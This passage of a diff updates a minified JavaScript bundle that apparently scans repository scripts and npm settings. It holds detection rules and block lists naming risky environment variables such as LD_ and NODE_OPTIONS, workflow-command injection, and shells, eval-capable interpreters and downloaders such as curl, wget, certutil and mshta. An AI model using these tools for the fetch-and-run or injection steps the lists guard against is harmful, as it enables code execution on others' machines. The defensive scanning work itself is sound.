+"NFKD").replace(/\p{M}/gu,""),t=aB(e);return/^[\x20-\x7e]+$/.test(t)?t:void 0}function z_(n){let e=!1;const t=n.replace(
+M_,s=>{const r=aB(s);return r===s||!/[A-Za-z]/.test(s)?s:(e=!0,r)});return e?t:void 0}const U_=100,J_=1e3;function Z_(n,e){
 let t=0,s=0;for(let r=0;r<=n.length;r+=1){const i=n.charAt(r);if(i===" "||i==="	")continue;const o=r-s;if(o>1&&(t+=o-1),
-o>=z_||t>=U_){const c=Math.max(o,t);e.add("blank-padding",{start:s,end:r},{blanks:c});return}s=r+1}}const Z_=/##\[|(?<!\w)::(?:set-output|set-env|save-state|add-path|add-mask|add-matcher|remove-matcher|debug|notice|warning|error|group|endgroup|stop-commands|echo|internal-set-repo-path)(?: |::)/i,
-W_=/<!--|```/;function va(n,e,t){const s=({index:o,0:c})=>t??{start:o,end:o+c.length},r=Z_.exec(n);r&&e.add("workflow-co\
-mmand",s(r),{written:dn(r[0])});const i=W_.exec(n);i&&e.add("markup-injection",s(i),{written:i[0]})}function ji(n){const[
-e]=n.parts;return n.parts.length===1&&e?e.text:n.parts.map(t=>t.text).join("")}function K_(n){const[e]=n.parts;return n.
-parts.length===1&&e&&!e.quoted?e.text:void 0}class uB{#e=[];add(e,t,s){this.#e.push(Xe(e,t,s))}inOrder(){const e=({severity:t})=>t===
-"error"?0:1;return this.#e.sort((t,s)=>t.span.start-s.span.start||e(t)-e(s))}}function lB(n){const e=new Set;return n.filter(
-({rule:t,severity:s})=>{if(s!=="error")return!0;const r=!e.has(t);return e.add(t),r})}const Sr=/^[\w.-]{0,64}$/,dB=/^(?:C|POSIX|(?:C|[a-z]{2,3}_[A-Z]{2})\.(?:UTF-8|utf8))$/,
-q_=/^(?:\.\/)?(?:[\w-][\w.-]*\/)*[\w-][\w.-]*\.json$/,Y_=/^\d{1,9}$/,vs=/^(?:|[01]|true|false|yes|no|on|off)$/i,BB=new Map(
+o>=U_||t>=J_){const c=Math.max(o,t);e.add("blank-padding",{start:s,end:r},{blanks:c});return}s=r+1}}const W_=/##\[|(?<!\w)::(?:set-output|set-env|save-state|add-path|add-mask|add-matcher|remove-matcher|debug|notice|warning|error|group|endgroup|stop-commands|echo|internal-set-repo-path)(?: |::)/i,
+K_=/<!--|```/;function Da(n,e,t){const s=({index:o,0:c})=>t??{start:o,end:o+c.length},r=W_.exec(n);r&&e.add("workflow-co\
+mmand",s(r),{written:dn(r[0])});const i=K_.exec(n);i&&e.add("markup-injection",s(i),{written:i[0]})}function Mi(n){const[
+e]=n.parts;return n.parts.length===1&&e?e.text:n.parts.map(t=>t.text).join("")}function q_(n){const[e]=n.parts;return n.
+parts.length===1&&e&&!e.quoted?e.text:void 0}class lB{#e=[];add(e,t,s){this.#e.push(Xe(e,t,s))}inOrder(){const e=({severity:t})=>t===
+"error"?0:1;return this.#e.sort((t,s)=>t.span.start-s.span.start||e(t)-e(s))}}function dB(n){const e=new Set;return n.filter(
+({rule:t,severity:s})=>{if(s!=="error")return!0;const r=!e.has(t);return e.add(t),r})}const Sr=/^[\w.-]{0,64}$/,BB=/^(?:C|POSIX|(?:C|[a-z]{2,3}_[A-Z]{2})\.(?:UTF-8|utf8))$/,
+Y_=/^(?:\.\/)?(?:[\w-][\w.-]*\/)*[\w-][\w.-]*\.json$/,V_=/^\d{1,9}$/,vs=/^(?:|[01]|true|false|yes|no|on|off)$/i,fB=new Map(
 [["NODE_ENV",Sr],["CI",Sr],["FORCE_COLOR",Sr],["NO_COLOR",Sr],["DEBUG",/^[\w.:*,@/-]{0,256}$/],["TZ",/^[A-Za-z](?:[\w+-]|\/(?=[A-Za-z])){0,63}$/],
-["LANG",dB],["LC_ALL",dB],["NODE_NO_WARNINGS",vs],["PYTHONDONTWRITEBYTECODE",vs],["PYTHONUNBUFFERED",vs],["PYTHONHASHSEE\
+["LANG",BB],["LC_ALL",BB],["NODE_NO_WARNINGS",vs],["PYTHONDONTWRITEBYTECODE",vs],["PYTHONUNBUFFERED",vs],["PYTHONHASHSEE\
 D",/^(?:random|\d{1,9})$/],["RUST_BACKTRACE",/^(?:[01]|full)$/],["RUSTFLAGS",/^-D ?warnings$/],["RUSTDOCFLAGS",/^-D ?warnings$/],
-["NODE_DEBUG",/^[\w,*:-]{0,256}$/],["UV_THREADPOOL_SIZE",/^\d{1,4}$/],["TS_NODE_PROJECT",q_],["TS_NODE_TRANSPILE_ONLY",vs],
-["TS_NODE_FILES",vs],["TS_NODE_SKIP_PROJECT",vs]]),V_=[[/(?:^|_)(?:HOST|HOSTNAME)$/,/^(?:localhost|127\.0\.0\.1|0\.0\.0\.0|::1?)$/],
-[/(?:_ENV|(?:^|_)(?:LOG_?LEVEL|MODE|NAME|STAGE|SUITE|TEST))$/,Sr]],fB="NODE_OPTIONS",Q_=/^--(?:(?:no-)?(?:warnings|deprecation|experimental-(?:abortcontroller|detect-module|eventsource|fetch|global-navigator|global-webcrypto|require-module|sqlite|strip-types|test-coverage|test-module-mocks|test-snapshots|transform-types|vm-modules|websocket|worker)|network-family-autoselection|strip-types)|enable-source-maps|expose-gc|frozen-intrinsics|pending-deprecation|throw-deprecation|trace-(?:deprecation|exit|uncaught|warnings)|unhandled-rejections=(?:strict|throw)|test-(?:concurrency|timeout)=\d+|disable-warning=\w+|dns-result-order=(?:ipv4first|ipv6first|verbatim)|max-(?:old|semi)-space-size=\d+|max-http-header-size=\d+|stack-trace-limit=\d+)$/;
-function hB(n){return n.split(" ").every(e=>Q_.test(e.replaceAll("_","-")))}function ka(n,e){if(n===fB)return hB(e);const t=BB.
-get(n);return t!==void 0?t.test(e):pB(n)?V_.some(([r,i])=>r.test(n)&&i.test(e))||vs.test(e)||Y_.test(e):!1}const X_=/^(?:CONCURRENCY|COVERAGE|E2E|FAST|HOST|HOSTNAME|LOGLEVEL|MODE|OFFLINE|PORT|QUIET|RETRIES|SEED|SILENT|SKIP|SLOW|STAGE|TEST|TIMEOUT|VERBOSE|WORKERS)$/;
-function pB(n){return/^[A-Z][A-Z\d]*(?:_[A-Z\d]+)+$/.test(n)?!mB(n):X_.test(n)}function eE(n){return n===fB||BB.has(n)||
-pB(n)}const tE=/^([A-Za-z_][A-Za-z0-9_]*)(\+?)=/;function nE(n,e){const t=[],s=[];let r=0;for(const i of n){const[o]=i.parts,
-c=o&&!o.quoted?tE.exec(o.text):null;if(!c)break;r+=1;const[l,B="",d]=c,h=ji(i).slice(l.length),g={start:i.start,end:i.end};
-if(!d&&ka(B,h))t.push({name:B,value:h,span:g}),e.add("environment-assignment",g,{name:B,value:dn(h)});else{const C=!d&&eE(
+["NODE_DEBUG",/^[\w,*:-]{0,256}$/],["UV_THREADPOOL_SIZE",/^\d{1,4}$/],["TS_NODE_PROJECT",Y_],["TS_NODE_TRANSPILE_ONLY",vs],
+["TS_NODE_FILES",vs],["TS_NODE_SKIP_PROJECT",vs]]),Q_=[[/(?:^|_)(?:HOST|HOSTNAME)$/,/^(?:localhost|127\.0\.0\.1|0\.0\.0\.0|::1?)$/],
+[/(?:_ENV|(?:^|_)(?:LOG_?LEVEL|MODE|NAME|STAGE|SUITE|TEST))$/,Sr]],hB="NODE_OPTIONS",X_=/^--(?:(?:no-)?(?:warnings|deprecation|experimental-(?:abortcontroller|detect-module|eventsource|fetch|global-navigator|global-webcrypto|require-module|sqlite|strip-types|test-coverage|test-module-mocks|test-snapshots|transform-types|vm-modules|websocket|worker)|network-family-autoselection|strip-types)|enable-source-maps|expose-gc|frozen-intrinsics|pending-deprecation|throw-deprecation|trace-(?:deprecation|exit|uncaught|warnings)|unhandled-rejections=(?:strict|throw)|test-(?:concurrency|timeout)=\d+|disable-warning=\w+|dns-result-order=(?:ipv4first|ipv6first|verbatim)|max-(?:old|semi)-space-size=\d+|max-http-header-size=\d+|stack-trace-limit=\d+)$/;
+function pB(n){return n.split(" ").every(e=>X_.test(e.replaceAll("_","-")))}function xa(n,e){if(n===hB)return pB(e);const t=fB.
+get(n);return t!==void 0?t.test(e):mB(n)?Q_.some(([r,i])=>r.test(n)&&i.test(e))||vs.test(e)||V_.test(e):!1}const eE=/^(?:CONCURRENCY|COVERAGE|E2E|FAST|HOST|HOSTNAME|LOGLEVEL|MODE|OFFLINE|PORT|QUIET|RETRIES|SEED|SILENT|SKIP|SLOW|STAGE|TEST|TIMEOUT|VERBOSE|WORKERS)$/;
+function mB(n){return/^[A-Z][A-Z\d]*(?:_[A-Z\d]+)+$/.test(n)?!gB(n):eE.test(n)}function tE(n){return n===hB||fB.has(n)||
+mB(n)}const nE=/^([A-Za-z_][A-Za-z0-9_]*)(\+?)=/;function sE(n,e){const t=[],s=[];let r=0;for(const i of n){const[o]=i.parts,
+c=o&&!o.quoted?nE.exec(o.text):null;if(!c)break;r+=1;const[l,B="",d]=c,h=Mi(i).slice(l.length),g={start:i.start,end:i.end};
+if(!d&&xa(B,h))t.push({name:B,value:h,span:g}),e.add("environment-assignment",g,{name:B,value:dn(h)});else{const C=!d&&tE(
 B);e.add("assignment-refused",g,{name:B,value:dn(h),known:C}),d||s.push({name:B,value:h,span:g})}}return{assignments:t,refused:s,
-count:r}}const sE=`
+count:r}}const rE=`
   BASH_~ BASHOPTS ENV HOME IFS PATH PROMPT_COMMAND PS4 SHELL SHELLOPTS XDG_CONFIG_HOME ZDOTDIR
   DYLD_~ GLIBC_~ LD_~ LIBRARY_~ MALLOC_~
   C8_~ COVERAGE_~ ELECTRON_~ INIT_CWD MOCHA_OPTIONS AVA_~ NODE NODE_~ NVM_~ NYC_~
@@ -3734,46 +3734,46 @@ count:r}}const sE=`
   CMAKE_~ COMPLUS_~ CORECLR_~ DOTNET_~ GCC_~ GNUMAKEFLAGS MAKE~ MSBUILD_~
   GIT_~
   BROWSER_ARGS DOCKER_~ EDITOR_~ OPENSSL_~ SSH_~ SSL_~ SUDO_~ XDG_~
-`.match(/\S+/g),rE=new RegExp(`^(?:${sE.join("|").replaceAll("~",".*")}|[A-Z]+_INCLUDE_PATH|[A-Z]+_PROXY)$`,"s");function mB(n){
-return rE.test(n)}const pt={targets:[],problems:[]};function mt(n){return{targets:n.flatMap(e=>e.targets),problems:n.flatMap(
+`.match(/\S+/g),iE=new RegExp(`^(?:${rE.join("|").replaceAll("~",".*")}|[A-Z]+_INCLUDE_PATH|[A-Z]+_PROXY)$`,"s");function gB(n){
+return iE.test(n)}const pt={targets:[],problems:[]};function mt(n){return{targets:n.flatMap(e=>e.targets),problems:n.flatMap(
 e=>e.problems)}}function He(n,e,t,s){return{targets:[],problems:[Xe(n,e,t,s)]}}function Pt({directory:n},e){return n===""?
-e:`${n}/${e}`}function Mi({via:n},e){return n===void 0?e:{...e,via:n}}const gB=64,CB=2e3;class iE{#e=new Set;#t=new Set;resolve;#s;constructor(e,t){
+e:`${n}/${e}`}function Gi({via:n},e){return n===void 0?e:{...e,via:n}}const CB=64,yB=2e3;class oE{#e=new Set;#t=new Set;resolve;#s;constructor(e,t){
 this.resolve=e,this.#s=t}async follow(e,t,s,r){if(this.#e.has(e))return r({why:"cycle"});const i=await this.#s?.tickScript();
-if(i!==void 0)return r({why:"time",limit:i});const o=`${e}\0${t}`;if(this.#t.has(o))return pt;if(this.#e.size>=gB)return r(
-{why:"depth",limit:gB});if(this.#t.size>=CB)return r({why:"count",limit:CB});this.#e.add(e);const c=await s();return this.#e.
-delete(e),this.#t.add(o),c}}function Da(n,e,t){switch(n.kind){case"inside":return n.entry;case"outside":return He("targe\
+if(i!==void 0)return r({why:"time",limit:i});const o=`${e}\0${t}`;if(this.#t.has(o))return pt;if(this.#e.size>=CB)return r(
+{why:"depth",limit:CB});if(this.#t.size>=yB)return r({why:"count",limit:yB});this.#e.add(e);const c=await s();return this.#e.
+delete(e),this.#t.add(o),c}}function Oa(n,e,t){switch(n.kind){case"inside":return n.entry;case"outside":return He("targe\
 t-outside",t,{path:e,reason:"symlink"});case"missing":return He("target-missing",t,{path:e});case"loop":return He("targe\
-t-not-a-file",t,{path:e,reason:"loop"})}}function xa(n,e,t,s){const r=lE(n,e),i=e.slice(0,Math.max(0,e.length-(ft(t)?.length??
-0))),o=r&&Le.posix.relative(i,r);return He("target-missing",s,{path:t,...o&&{near:o}})}function Oa(n,e,t){const s=Da(n,e,
-t);return"problems"in s||Wt(s.kind)?s:He("target-not-a-file",t,{path:e,reason:s.kind})}function yB(n,e,t){const s=e.startsWith(
+t-not-a-file",t,{path:e,reason:"loop"})}}function Aa(n,e,t,s){const r=dE(n,e),i=e.slice(0,Math.max(0,e.length-(ft(t)?.length??
+0))),o=r&&Le.posix.relative(i,r);return He("target-missing",s,{path:t,...o&&{near:o}})}function Sa(n,e,t){const s=Oa(n,e,
+t);return"problems"in s||Wt(s.kind)?s:He("target-not-a-file",t,{path:e,reason:s.kind})}function wB(n,e,t){const s=e.startsWith(
 "/")?void 0:ft(Pt(n,e));if(s===void 0)return He("target-outside",t,{path:e,reason:"above"});const r=At(n.tree,s);return r.
-kind==="missing"?xa(n.tree,s,e,t):Da(r,e,t)}function wB(n,{text:e,span:t}){const s=e.startsWith("/")?void 0:ft(Pt(n,e)),
-r=s===void 0?void 0:At(n.tree,s);return s===void 0||r?.kind!=="inside"||!Wt(r.entry.kind)?pt:Aa(n,{name:e,path:r.path,wanted:s},
-t)}function Aa(n,{name:e,path:t,wanted:s},r){const i=n.changed.has(t)||n.changed.has(s);return{targets:[Mi(n,{kind:"file",
-name:e,path:t})],problems:i?[Xe("target-changed",r,{path:t})]:[]}}async function Gi(n,e,t){const s=At(n,e);if(!(s.kind===
+kind==="missing"?Aa(n.tree,s,e,t):Oa(r,e,t)}function bB(n,{text:e,span:t}){const s=e.startsWith("/")?void 0:ft(Pt(n,e)),
+r=s===void 0?void 0:At(n.tree,s);return s===void 0||r?.kind!=="inside"||!Wt(r.entry.kind)?pt:Ta(n,{name:e,path:r.path,wanted:s},
+t)}function Ta(n,{name:e,path:t,wanted:s},r){const i=n.changed.has(t)||n.changed.has(s);return{targets:[Gi(n,{kind:"file",
+name:e,path:t})],problems:i?[Xe("target-changed",r,{path:t})]:[]}}async function Hi(n,e,t){const s=At(n,e);if(!(s.kind===
 "missing"&&n.stat(e)===void 0))return s.kind!=="inside"?{unread:"it is a symbolic link that leads to no file of the repo\
 sitory"}:Wt(s.entry.kind)?(s.entry.size??0)>t?{unread:"it is too large"}:{text:(await n.read(s.path,t)).toString("utf8"),
-path:s.path}:{unread:"it is not a regular file"}}async function oE(n,e,t){if(n===e)return!1;const[s,r]=[n,e].map(B=>At(B,
+path:s.path}:{unread:"it is not a regular file"}}async function aE(n,e,t){if(n===e)return!1;const[s,r]=[n,e].map(B=>At(B,
 t));if(s?.kind!=="inside"||r?.kind!=="inside")return!0;const[i,o]=[s.entry,r.entry];if(i.oid!==void 0&&i.oid===o.oid)return!1;
 if(i.size!==o.size||!Wt(i.kind)||!Wt(o.kind))return!0;const[c,l]=await Promise.all([n.read(i.path,i.size),e.read(o.path,
-o.size)]);return!c.equals(l)}async function aE(n,e){const[t=""]=(await n.read(e)).subarray(0,256).toString("latin1").split(
+o.size)]);return!c.equals(l)}async function cE(n,e){const[t=""]=(await n.read(e)).subarray(0,256).toString("latin1").split(
 `
-`,1);return t}const cE=Fn(n=>Ai(n.files(),({path:e})=>Le.posix.dirname(e))),uE=20;function lE(n,e){const t=e.split("/").
-slice(-uE),s=t.at(-1)??"",r=Le.posix.dirname(e),i=t.slice(1,-1).map((d,h)=>t.slice(h+1).join("/")).find(d=>bB(n.stat(d)));
-if(i!==void 0)return i;const o=Ti(n,s).filter(bB),c=o.filter(({path:d})=>d.endsWith(`/${e}`));if(c.length===1)return c[0]?.
-path;const l=(cE(n).get(r)??[]).filter(({path:d})=>Le.posix.extname(d)===Le.posix.extname(s)).map(({path:d})=>Le.posix.basename(
-d)),B=Ni(s,l);return B!==void 0?Le.posix.join(r,B):o.length===1?o[0]?.path:void 0}function bB(n){return!!n?.tracked&&Wt(
-n.kind)&&!rn(n.path,"node_modules")}const dE=2e5,BE=2e3;async function WN(n,e){const{kind:t,size:s=0}=n.stat(e)??{};if(!isRegular(
-t))return;if(s>dE)return`has ${s} bytes`;const r=(await n.read(e)).toString("utf8").split(`
-`),i=r.findIndex(o=>o.length>BE);return i<0?void 0:`has ${r[i]?.length} characters on line ${i+1}`}const fE=64*1024;async function Vs(n){
-const e=await Gi(n.tree,Pt(n,".npmrc"),fE);if(e===void 0)return{settings:{}};if("unread"in e)return e;const t=uw(e.text);
-return t!==void 0?{unread:t}:{settings:(0,iB.parse)(e.text),file:e.path}}async function Sa(n,e){const t=Pt(n,".npmrc"),s=await Vs(
+`,1);return t}const uE=Fn(n=>Si(n.files(),({path:e})=>Le.posix.dirname(e))),lE=20;function dE(n,e){const t=e.split("/").
+slice(-lE),s=t.at(-1)??"",r=Le.posix.dirname(e),i=t.slice(1,-1).map((d,h)=>t.slice(h+1).join("/")).find(d=>_B(n.stat(d)));
+if(i!==void 0)return i;const o=Ii(n,s).filter(_B),c=o.filter(({path:d})=>d.endsWith(`/${e}`));if(c.length===1)return c[0]?.
+path;const l=(uE(n).get(r)??[]).filter(({path:d})=>Le.posix.extname(d)===Le.posix.extname(s)).map(({path:d})=>Le.posix.basename(
+d)),B=Fi(s,l);return B!==void 0?Le.posix.join(r,B):o.length===1?o[0]?.path:void 0}function _B(n){return!!n?.tracked&&Wt(
+n.kind)&&!rn(n.path,"node_modules")}const BE=2e5,fE=2e3;async function VN(n,e){const{kind:t,size:s=0}=n.stat(e)??{};if(!isRegular(
+t))return;if(s>BE)return`has ${s} bytes`;const r=(await n.read(e)).toString("utf8").split(`
+`),i=r.findIndex(o=>o.length>fE);return i<0?void 0:`has ${r[i]?.length} characters on line ${i+1}`}const hE=64*1024;async function Vs(n){
+const e=await Hi(n.tree,Pt(n,".npmrc"),hE);if(e===void 0)return{settings:{}};if("unread"in e)return e;const t=lw(e.text);
+return t!==void 0?{unread:t}:{settings:(0,oB.parse)(e.text),file:e.path}}async function Ia(n,e){const t=Pt(n,".npmrc"),s=await Vs(
 n);if("unread"in s)return He("npmrc-setting",e,{path:t,keys:[],why:s.unread});const{settings:r,file:i=t}=s,o=!n.base||n.
 changed.has(t)||n.changed.has(i),c=n.base&&await Vs({...n,tree:n.base}),l=c&&"settings"in c?c.settings:{},B={changed:[],
-decides:[],stands:[]};for(const[d,h]of Object.entries(r)){const g=Ta(d,h),C=o&&JSON.stringify(l[d])!==JSON.stringify(h),
-y=d==="node-options"&&!hB(String(h));g==="harmless"||g==="honoured"&&!C&&!y||B[C?"changed":g==="other"?"stands":"decides"].
+decides:[],stands:[]};for(const[d,h]of Object.entries(r)){const g=$a(d,h),C=o&&JSON.stringify(l[d])!==JSON.stringify(h),
+y=d==="node-options"&&!pB(String(h));g==="harmless"||g==="honoured"&&!C&&!y||B[C?"changed":g==="other"?"stands":"decides"].
 push(d)}return mt(Object.entries(B).map(([d,h])=>h.length===0?pt:He("npmrc-setting",e,{path:t,keys:h,why:d},d==="stands"?
-"warning":void 0)))}const hE=new Set(`access allow-same-version audit audit-level auth-type bin-links color commit-hooks\
+"warning":void 0)))}const pE=new Set(`access allow-same-version audit audit-level auth-type bin-links color commit-hooks\
  cpu depth
   description diff-ignore-all-space diff-name-only diff-no-prefix diff-text diff-unified dry-run
   engine-strict expect-result-count expect-results fetch-retries fetch-retry-factor
@@ -3791,98 +3791,101 @@ push(d)}return mt(Object.entries(B).map(([d,h])=>h.length===0?pt:He("npmrc-setti
   ignore-workspace-root-check link-workspace-packages manage-package-manager-versions node-linker
   prefer-workspace-packages public-hoist-pattern recursive-install resolution-mode
   save-workspace-protocol shamefully-hoist shared-workspace-lockfile side-effects-cache
-  strict-peer-dependencies use-node-version`.split(/\s+/)),pE=new Set(`browser call editor extension-file git global glo\
+  strict-peer-dependencies use-node-version`.split(/\s+/)),mE=new Set(`browser call editor extension-file git global glo\
 balconfig if-present include-workspace-root
   init-module init.module location node-gyp node-options package prefix scripts-prepend-node-path
-  script-shell shell usage userconfig version versions viewer workspace workspaces yes`.split(/\s+/)),mE=new Set(["ignor\
-e-scripts","node-options"]);function Ta(n,e){const t=typeof e!="object"&&!String(e).includes("${");if(n==="ignore-script\
-s"&&t)return typeof e=="boolean"?"honoured":"decides";if(mE.has(n)&&t)return"honoured";const s=n.toLowerCase().replaceAll(
-"_","-");return pE.has(s)||n.includes("${")?"decides":!hE.has(n)||typeof e=="object"&&!Array.isArray(e)||String(e).includes(
-"${")?"other":"harmless"}async function gE(n,e){return Promise.all(Ti(n,".npmrc").map(({path:t})=>CE(n,t,e)))}async function CE(n,e,t){
-const s=Le.posix.dirname(e),r=await Vs({tree:n,directory:s==="."?"":s});if("unread"in r)return yE(n,e,r.unread);const{settings:i,
-file:o=e}=r,c=t.has(e)||t.has(o),l=([d,h])=>{const g=Ta(d,h);return g==="harmless"||g==="honoured"&&!c},B=Object.entries(
-i);return{path:o,text:(0,iB.stringify)(Object.fromEntries(B.filter(l))),dropped:B.filter(d=>!l(d)).map(([d])=>d)}}function yE(n,e,t){
-const s=At(n,e);return s.kind==="inside"&&Wt(s.entry.kind)?{path:s.path,text:"",dropped:[t]}:{path:e,dropped:[t]}}const wE=/^(?:registry|@[^:]+:registry|\/\/.*|always-auth|_auth|_authToken|ca(?:file)?|cert|key|(?:https?-)?proxy|noproxy|strict-ssl)$/;
-async function bE(n,e){return(await gE(n,e)).flatMap(({path:s,dropped:r})=>{const i=r.filter(o=>!wE.test(o));return i.length>
-0?[`${s}: ${i.join(", ")}`]:[]})}function _E(n){return typeof n=="object"&&n!==null&&!Array.isArray(n)}function on(n){return _E(
-n)?n:{}}function Yn(n,e){const t=Object.hasOwn(n,e)?n[e]:void 0;return typeof t=="string"?t:""}const _B=200;function EE(n){
-if(new RegExp(`^[ \\t?-]{${_B}}`,"m").test(n))return!0;let e=0;for(const t of n.match(/[[\]{}]/g)??[])if(e=Math.max(0,e+
-(/[[{]/.test(t)?1:-1)),e>_B)return!0;return!1}const Tr=Symbol("*"),vE=/^.$/su,kE=/\[\w+\]|./gsu;function DE(n){if(!n.parts.
-some(l=>!l.quoted&&/[*?[]/.test(l.text)))return;const e=n.parts.flatMap(({text:l,quoted:B})=>B?Array.from(l):(l.match(kE)??
-[]).map(xE)),t=n.parts.map(({text:l,quoted:B})=>B?"\0":l).join(""),s=/^[^[]*\[.*\]/s.test(t.replace(/\[\w+\]/g,"]")),r=e.
-findIndex(l=>typeof l!="string"||s&&l==="[");if(r<0)return;const i=n.parts.map(l=>l.text).join(""),o=EB(e.slice(0,r)),c=OE(
-e);return{text:i,prefix:o,segments:c,...s&&{ambiguity:"bracket"}}}function xE(n){return n==="*"?Tr:n==="?"?vE:n.length>1&&
-n.startsWith("[")?new RegExp(`^${n}$`):n}function EB(n){return n.filter(e=>typeof e=="string").join("")}function OE(n){const e=[
-[]];for(const t of n)t==="/"?e.push([]):e.at(-1)?.push(t);return e}function Ia(n){return n.every(e=>typeof e=="string")?
-EB(n):void 0}function AE(n){return n.includes(Tr)}const vB=n=>Array.from(n),SE=n=>Array.from(Buffer.from(n).toString("la\
-tin1"));function kB(n,e){if(e.startsWith(".")&&n[0]!==".")return!1;const t=$a(n,e,vB);return/^[\x20-\x7e]*$/.test(e)||t===
-$a(n,e,SE)?t:void 0}function TE(n,e){const t=Array.from(e,s=>s==="*"?Tr:s);return $a(t,n,vB)}function $a(n,e,t){const s=n.
-flatMap(l=>typeof l=="string"?t(l):[l]),r=t(e);let i=0,o=-1,c=0;for(let l=0;l<r.length;)if(s[i]===Tr)o=i,c=l,i+=1;else if(IE(
-s[i],r[l]))i+=1,l+=1;else if(o>=0)i=o+1,c+=1,l=c;else return!1;return s.slice(i).every(l=>l===Tr)}function IE(n,e=""){return n instanceof
-RegExp?n.test(e):n===e}const $E=20,RE=4096,DB=64;function NE(n,e,t){const{pattern:s,span:r,position:i}=n,o=dn(s.text),c=LE(
-s);let l=[];if(i==="program")t.add("glob-unclear",r,{pattern:o,reason:"program"});else if(jE(s))t.add("glob-unclear",r,{
-pattern:o,reason:"outside"});else if(!PE(s,e))if(c)t.add("glob-unclear",r,{pattern:o,reason:c});else if(ME(s))t.add("glo\
-b-unclear",r,{pattern:o,reason:"flag"});else if(e)l=FE(n,e,t);else if(i==="script"&&s.segments.some(AE))t.add("glob-uncl\
-ear",r,{pattern:o,reason:"program"});else{const B={matches:[],count:0,judged:!1};t.add("unquoted-glob",r,{pattern:o,...B})}
-return l.length===0?[s.text]:l}function FE({pattern:n,span:e,position:t},s,r){const i=dn(n.text),o=zE(n,s),c="matches"in
-o&&!o.matches.every(GE);if("ambiguity"in o||c){const h="ambiguity"in o?o.ambiguity:"file_name";return r.add("glob-unclea\
-r",e,{pattern:i,reason:h}),[]}const{matches:l}=o;l.some(h=>h.startsWith("-"))&&r.add("glob-unclear",e,{pattern:i,reason:"\
-flag"}),t==="script"&&l.length>1&&r.add("glob-unclear",e,{pattern:i,reason:"program"});const B=l.slice(0,$E).map(h=>dn(h)),
-{length:d}=l;return r.add("unquoted-glob",e,{pattern:i,matches:B,count:d,judged:!0}),l}function PE({prefix:n,text:e},t){
-return n.includes("://")&&!t?.stat(e.slice(0,e.indexOf("/")))}function LE({text:n,segments:e,ambiguity:t}){return t||(n.
-length>RE?"too_many":e.some(r=>Ia(r)===void 0&&kB(r,".."))?"dot":void 0)}function jE({text:n,segments:e}){return n.startsWith(
-"/")||e.some(t=>Ia(t)==="..")}function ME({prefix:n}){return n.startsWith("-")&&!n.includes("=")}function GE(n){const e=new uB;
-return Es(n,0,!0,e),e.inOrder().length===0}const HE=128*1024;function zE(n,e){let t=[{written:"",path:""}];for(const[i,o]of n.
-segments.entries()){const c=i===n.segments.length-1,l=[];for(const B of t){const d=UE(B,o,c,e);if(typeof d=="string")return{
-ambiguity:d};l.push(...d)}t=l}const s=t.map(({written:i})=>Buffer.from(i));return s.reduce((i,o)=>i+o.length+1,0)>HE?{ambiguity:"\
-too_many"}:{matches:s.sort(Buffer.compare).map(i=>i.toString())}}function UE(n,e,t,s){const{written:r,path:i}=n,o=Ia(e);
-if(o==="")return t?[n]:"empty_segment";const c=t?"":"/";if(o===".")return[{written:`${r}.${c}`,path:i}];const l=[];for(const B of JE(
-i,e,o,s)){if(B==="letters")return"letters";if(!t&&ZE(B,s))return"symlink";!t&&B.kind!=="directory"||l.push({written:`${r}${Le.
-posix.basename(B.path)}${c}`,path:B.path})}return l}function*JE(n,e,t,s){if(t!==void 0){const r=s.stat(n===""?t:`${n}/${t}`);
-r?.tracked&&(yield r);return}for(const r of s.list(n)){if(!r.tracked)continue;const i=kB(e,Le.posix.basename(r.path));i===
-void 0?yield"letters":i&&(yield r)}}function ZE(n,e){if(n.kind!=="symlink")return n.kind==="submodule";const t=At(e,n.path);
-return t.kind==="missing"?!1:t.kind!=="inside"||!/^(?:file|executable)$/.test(t.entry.kind)}const WE=/^-\w*c$|^--command$/,
-Ra=/^-(?=\w+$)\w*[ep]|^--(?:eval|print)(?:=|$)|^eval$/,KE=/^-\w*[eE]/,qE=/^$/,YE=/^(?:add|dlx)$/,VE=[["shell","sh bash d\
-ash ash zsh ksh mksh pdksh yash fish csh tcsh rc elvish nu xonsh",{text:WE}],["shell","pwsh powershell",{text:/^[-/](?:c|command|e|ec|en\w*)$/i}],
-["shell","cmd",{text:/^\/[ckr]/i}],["shell","osascript",{text:/^-e$/}],["shell","eval iex invoke-expression",{text:"word\
-s"}],["shell","source ."],["interpreter","node nodejs deno tsx ts-node jiti esno esmo babel-node",{text:Ra}],["interpret\
-er","vite-node swc-node sucrase-node",{text:Ra}],["interpreter","bun",{text:Ra,fetches:/^(?:x|add)$/,runsScripts:!0}],["\
-interpreter","python python2 python3 pythonw py pypy pypy3",{text:/^-[A-Za-z]*c/}],["interpreter","perl ruby lua luajit \
-raku rscript julia elixir groovy scala",{text:KE}],["interpreter","php",{text:/^-r|^--run$/}],["interpreter","java tclsh\
- jshell ghci"],["wrapper","doas su sudo",{wraps:"as-user"}],["wrapper","cross-env dotenv env-cmd",{wraps:"as-tool"}],["w\
-rapper","command exec builtin busybox toybox time taskset chrt flock prlimit unshare chroot"],["wrapper","strace ltrace \
-gdb xargs parallel watch winpty"],["wrapper","env ionice nice nohup setsid stdbuf timeout xvfb-run"],["downloader","curl\
- wget aria2c axel fetch http https xh httpie iwr irm invoke-webrequest"],["downloader","invoke-restmethod start-bitstran\
-sfer bitsadmin certutil mshta"],["builder","go",{fetches:/^(?:run|install)$/}],["builder","cargo",{fetches:/^install$/}],
-["builder","make",{finds:"GNUmakefile makefile Makefile"}],["builder","just",{finds:"justfile Justfile .justfile"}],["bu\
-ilder","task",{finds:"Taskfile.yml Taskfile.yaml"}],["manager","npm",{fetches:/^(?:exec|x|i|install|add)$/,runsScripts:!0}],
-["manager","pnpm yarn",{fetches:YE,runsScripts:!0}],["manager","npx bunx pnpx uvx",{fetches:qE}],["manager","pip pip3",{
-fetches:/^install$/}],["manager","gem",{fetches:/^install$/}],["manager","pipx",{fetches:/^run$/}],["manager","uv",{fetches:/^(?:tool run|pip3? install)$/,
+  script-shell shell usage userconfig version versions viewer workspace workspaces yes`.split(/\s+/)),gE=new Set(["ignor\
+e-scripts","node-options"]);function $a(n,e){const t=typeof e!="object"&&!String(e).includes("${");if(n==="ignore-script\
+s"&&t)return typeof e=="boolean"?"honoured":"decides";if(gE.has(n)&&t)return"honoured";const s=n.toLowerCase().replaceAll(
+"_","-");return mE.has(s)||n.includes("${")?"decides":!pE.has(n)||typeof e=="object"&&!Array.isArray(e)||String(e).includes(
